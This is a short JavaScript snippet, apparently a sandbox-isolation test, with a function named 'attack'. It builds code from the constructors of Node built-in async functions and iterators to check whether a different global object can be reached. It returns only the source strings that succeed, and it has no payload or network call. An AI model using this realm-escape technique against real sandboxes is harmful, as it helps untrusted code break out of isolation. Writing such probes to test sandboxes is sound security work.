const attack = async () => {
  const { readFile } = require('fs').promises;
  const found = [];
  for (const value of [readFile, Object.getPrototypeOf(readFile), require('stream').Readable.prototype[Symbol.asyncIterator], require('events').on]) {
    for (const text of ['return globalThis', 'yield globalThis', 'return await globalThis']) {
      try {
        const made = await value.constructor(text)();
        const there = made?.next ? (await made.next()).value : made;
        if (there && there !== globalThis) found.push(text);
      } catch {}
    }
  }
  return found.join();
};
